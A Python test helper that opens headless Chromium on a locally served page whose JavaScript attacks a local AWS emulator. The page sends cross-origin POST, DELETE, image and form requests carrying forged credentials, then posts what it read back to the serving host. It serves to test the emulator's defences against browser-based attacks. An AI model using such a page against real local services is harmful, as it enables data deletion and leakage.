"""A real web browser, and web pages in it that attack a local AWS."""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from typing import Any

from tests.local.emulator.local_aws import PATIENCE_SECONDS
from tests.skip_or_fail import skip_or_fail

ELSEWHERE = "page.test"
"""A host name of this machine that no local AWS accepts."""

_PROGRAMS = ("chromium", "chromium-browser", "google-chrome")
_OPTIONS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
    *("--no-proxy-server", f"--host-resolver-rules=MAP {ELSEWHERE} 127.0.0.1"),
)

# Each attack is made on all targets, even if some fail; then the page posts what it could read.
_PAGE = """
<!doctype html>
<body>
<script>
const targets = TARGETS, key = KEY, read = {};
const signed = `X-Amz-Credential=${key}/20261123/us-east-1/s3/aws4_request`;
const authorization = `AWS4-HMAC-SHA256 Credential=${key}/20261123/us-east-1/s3/aws4_request, SignedHeaders=host`;
async function attack(name, url, options) {
  try { read[name] = await (await fetch(url, options)).text(); } catch (error) { read[name] = null; }
}
function element(tag, fields) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(tag), fields, {onload: done, onerror: done});
    document.body.append(made);
  });
}
(async () => {
  for (const [name, target] of Object.entries(targets)) {
    await attack(`${name} simple`, `${target}/moto-api/reset?simple&${signed}`,
      {method: "POST", mode: "no-cors", body: "x"});
    await attack(`${name} cors`, `${target}/BUCKET/key?cors&${signed}`, {});
    await attack(`${name} preflighted`, `${target}/BUCKET/key?preflighted`,
      {method: "DELETE", headers: {authorization}});
    await element("img", {src: `${target}/BUCKET/key?image&${signed}`});
    const frame = element("iframe", {name: `${name} form`});
    const form = Object.assign(document.createElement("form"),
      {method: "POST", target: `${name} form`, action: `${target}/moto-api/reset?form&${signed}`});
    document.body.append(form);
    form.submit();
    await frame;
  }
  await fetch("/read", {method: "POST", body: JSON.stringify(read)});
})();
</script>
"""


def chromium() -> str:
    """Return the browser's program, or skip the test."""
    found = next((path for path in map(shutil.which, _PROGRAMS) if path), None)
    if found is None:
        skip_or_fail("there is no chromium on PATH", unless="REQUIRE_BROWSER", remedy="install chromium")
    return found


@dataclass
class Server:
    """An attacker's HTTP server: it serves a page, records every request, and receives what the page read."""

    port: int
    page: str = ""
    requests: list[str] = field(default_factory=list)
    read: "Queue[dict[str, str | None]]" = field(default_factory=Queue)


@contextmanager
def server() -> Iterator[Server]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            noted.requests.append(f"{self.command} {self.path}")
            if self.path == "/read":
                noted.read.put(json.loads(body))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(noted.page.encode())

        do_POST = do_DELETE = do_OPTIONS = do_GET  # noqa: N815 - the names that http.server looks for

        def log_message(self, *_: Any) -> None:
            pass

    listening = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    noted = Server(listening.server_port)
    threading.Thread(target=listening.serve_forever, daemon=True).start()
    try:
        yield noted
    finally:
        listening.shutdown()
        listening.server_close()


def attack(folder: Path, host: str, targets: dict[str, str], key: str, bucket: str) -> dict[str, str | None]:
    """Open a page of `host` that attacks the targets, and return the parts of each answer that it could read."""
    with server() as site:
        page = _PAGE.replace("TARGETS", json.dumps(targets)).replace("KEY", json.dumps(key))
        site.page = page.replace("BUCKET", bucket)
        with _browser(folder, f"http://{host}:{site.port}/"):
            return site.read.get(timeout=PATIENCE_SECONDS)


@contextmanager
def _browser(folder: Path, url: str, *options: str) -> Iterator["subprocess.Popen[str]"]:
    process = subprocess.Popen(
        [chromium(), *_OPTIONS, f"--user-data-dir={folder}", *options, "--remote-debugging-port=0", url],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    try:
        yield process
    finally:
        process.kill()
        process.wait()


def shown(folder: Path, url: str, *options: str) -> str:
    """Return the document that a browser loads from an address."""
    command: Sequence[str] = [
        *(chromium(), *_OPTIONS, f"--user-data-dir={folder}", *options),
        *("--dump-dom", "--virtual-time-budget=1000", url),
    ]
    dumped = subprocess.run(command, capture_output=True, text=True, check=True, timeout=PATIENCE_SECONDS * 4)
    return dumped.stdout
